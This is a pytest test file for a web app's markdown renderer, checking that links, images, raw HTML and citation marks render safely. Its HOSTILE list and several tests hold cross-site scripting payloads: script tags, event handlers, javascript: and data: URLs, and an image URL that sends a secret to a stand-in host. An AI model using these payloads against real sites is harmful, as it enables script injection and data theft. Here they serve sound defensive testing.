import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.web.markdown import LONGEST, InertMarkdown
from tests.web.scenes import MARKDOWN

RENDERER = InertMarkdown()
HEADINGS = {1: "Cost comparison (ml-engineering)", 2: "Sizing (ml-engineering)"}

TAGS = {
    *("p", "h3", "h4", "h5", "h6", "ul", "ol", "li", "blockquote", "hr", "br", "pre", "code", "em", "strong", "s"),
    *("table", "thead", "tbody", "tr", "th", "td", "div", "span", "button", "a", "details", "summary"),
}
ATTRIBUTES = {
    *("href", "rel", "target", "class", "type", "title", "aria-label", "start", "tabindex", "role"),
    *("data-cite", "data-figure", "data-assumption", "data-label"),
}

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "![pixel](https://evil.example/p?q=secret)",
    "![x](javascript:alert(1))",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[click](vbscript:x)",
    "[click](//evil.example)",
    "[click](/v1/runs)",
    "[click](https://good.example@evil.example/)",
    "[click](https://good.example\\@evil.example/)",
    "[1]: https://evil.example\n\nsee [1]",
    '[1](https://evil.example "onmouseover=alert(1)")',
    "<https://evil.example/?q=secret>",
    "<javascript:alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "```<script>\nx\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "<style>body{display:none}</style><base href=https://evil.example>",
    '<iframe src="https://evil.example"></iframe><form action="https://evil.example"><input name=q></form>',
    "|a|b|\n|:--|--:|\n|<img src=x>|[1]|",
    "**F1** <b onclick=x>",
]


class Found(HTMLParser):
    """The tags, attributes and text of a fragment."""

    def __init__(self, fragment: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str]] = []
        self.text = ""
        self.feed(fragment)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(name, value or "") for name, value in attrs]

    def handle_data(self, data: str) -> None:
        self.text += data

    def values(self, name: str) -> list[str]:
        return [value for attribute, value in self.attributes if attribute == name]


def render(text: str, figures: int = 1, assumptions: int = 1) -> Found:
    return Found(RENDERER.render(text, HEADINGS, figures, assumptions))


def assert_inert(found: Found) -> None:
    assert set(found.tags) <= TAGS
    assert {name for name, _ in found.attributes} <= ATTRIBUTES
    for href in found.values("href"):
        assert re.match(r"https?://[A-Za-z0-9.-]+(:\d+)?([/?#]|$)", href)


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_becomes_harmless(text: str) -> None:
    assert_inert(render(text))


@given(st.lists(st.one_of(st.sampled_from([*HOSTILE, "[1]", "[F1]", "\n\n", "\n- ", "| ", "> ", "    "]), st.text())))
def test_any_mixture_becomes_harmless(parts: list[str]) -> None:
    assert_inert(render("".join(parts)))


def test_raw_html_is_shown_as_it_was_written() -> None:
    found = render("before <script>alert(1)</script> after")
    assert "<script>alert(1)</script>" in found.text


@pytest.mark.parametrize(
    "text",
    ["[a](javascript:alert(1))", "[a](//evil.example)", "[a](https://x@evil.example)", "[a](data:text/html,x)"],
)
def test_a_link_that_is_no_plain_web_address_stays_text(text: str) -> None:
    found = render(text)
    assert "a" not in found.tags
    assert found.text.strip() == text


def test_a_link_shows_its_host_and_tells_it_nothing() -> None:
    found = render("[our bank](https://evil.example/login)")
    assert found.text.strip() == "our bank (evil.example)"
    assert found.values("rel") == ["noreferrer noopener"]
    assert found.values("target") == ["_blank"]


def test_the_host_of_an_international_name_is_shown_in_ascii() -> None:
    assert "(xn--" in render("[apple](https://аpple.com)").text


def test_an_image_is_named_and_not_loaded() -> None:
    found = render("![a chart](https://evil.example/p.png?q=secret)")
    assert found.text.strip() == "[image from evil.example not loaded: a chart]"
    assert "secret" not in str(found.attributes)


def test_a_definition_cannot_take_a_mark_over() -> None:
    found = render("[1]: https://evil.example\n\nIt pays [1].")
    assert "a" not in found.tags
    assert found.values("data-cite") == ["1", "1"]


def test_known_marks_are_buttons_and_unknown_ones_text() -> None:
    found = render("Both [1][3] and [F1][F2].")
    assert found.values("data-cite") == ["1"]
    assert found.values("data-figure") == ["1"]
    assert found.values("aria-label") == ["Source 1: Cost comparison (ml-engineering)", "Figure F1"]
    assert found.text.strip() == "Both [1][3] and [F1][F2]."


def test_marks_of_assumptions_lead_to_those_that_there_are() -> None:
    found = render("It costs $600 [F1][A1], or more [A2].")
    assert found.values("data-assumption") == ["1"]
    assert found.values("aria-label") == ["Figure F1", "Assumption A1"]
    assert found.text.strip() == "It costs $600 [F1][A1], or more [A2]."


def test_a_mark_stays_with_the_word_before_and_the_stop_behind() -> None:
    assert '<span class="glue">away <button' in RENDERER.render("It moves away [1].", HEADINGS)
    assert "</button>.</span>" in RENDERER.render("It moves away [1].", HEADINGS)


@pytest.mark.parametrize("text", ["`[1]`", "```\n[1]\n```", "[see [1] there](https://example.com)"])
def test_marks_in_code_and_links_are_no_buttons(text: str) -> None:
    assert "button" not in render(text).tags


def test_headings_begin_below_the_question() -> None:
    assert [tag for tag in render("# A\n\n## B\n\n#### C\n\n###### D").tags if tag[0] == "h"] == [
        "h3",
        "h4",
        "h6",
        "h6",
    ]
    assert [tag for tag in render("#### C\n\n##### D").tags if tag[0] == "h"] == ["h3", "h4"]


def test_a_table_scrolls_by_itself_and_is_aligned_without_styles() -> None:
    found = render("|a|b|\n|---|--:|\n|1|2|")
    assert found.tags[:2] == ["div", "table"]
    assert found.values("class") == ["table", "right", "right"]


def test_the_list_of_sources_is_folded_and_no_other_list() -> None:
    found = render(MARKDOWN)
    assert found.tags.count("details") == 1
    folded = RENDERER.render(MARKDOWN, HEADINGS, 1).partition("<details")[2].partition("</details>")[0]
    assert "Sources" in folded
    assert folded.count("<li>") == 2
    assert render("### Next\n\n- do this [1]\n- do that").tags.count("details") == 0


@pytest.mark.parametrize("text", ["### Sources", "### Sources\n\n", "### A\n\n- [1] x\n  - y", "- [1] x"])
def test_a_list_of_sources_that_is_not_whole_is_left_alone(text: str) -> None:
    assert_inert(render(text))


@pytest.mark.parametrize("label", ["F1", "A1", "A12"])
def test_figures_and_assumptions_can_be_found_by_their_label(label: str) -> None:
    assert render(f"- **{label}** (C-02) 1 + 1 = 2").values("data-label") == [label]


@pytest.mark.parametrize("piece", ["a", "[", "![", "<", "**a ", "| a ", "> ", "- "])
def test_a_megabyte_is_shown_as_it_stands(piece: str) -> None:
    text = piece * (1_000_000 // len(piece))
    found = render(text)
    assert found.tags == ["pre"]
    assert found.text.strip("\n") == text


def test_the_longest_formatted_text_is_formatted() -> None:
    text = "word " * (LONGEST // 5)
    assert render(text).tags == ["p"]
